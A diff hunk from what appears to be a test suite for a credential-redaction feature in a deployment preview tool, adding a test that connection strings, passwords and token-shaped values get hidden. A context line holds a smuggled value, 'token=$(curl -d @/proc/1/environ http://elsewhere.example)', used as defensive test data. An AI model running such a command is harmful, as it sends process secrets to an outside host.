@@ -148,6 +148,14 @@ def test_what_the_cluster_says_is_shown_without_credentials_and_what_the_author_
     assert changed == ["level=info", "level=debug", "token=$(curl -d @/proc/1/environ http://elsewhere.example)"]
 
 
+def test_a_diff_without_a_word_of_a_credential_is_made_once():
+    veil = Concealing()
+    shown = preview(scale(5), live_deployment())
+    assert not veil.may_hide(shown.diff)
+    for text in ("postgres://a:b@c", "--db-password x", "Bearer abcdefgh", "mysql -pabc", "ghp_" + "a1" * 12):
+        assert veil.may_hide(shown.diff + text), text
+
+
 def test_what_is_a_credential_by_its_own_shape_is_not_shown_whoever_says_it():
     token = "ghp_" + "a1" * 12
     shown = preview(change(f"{MAIN}/args", None, [f"--x={token}"]), live_deployment())
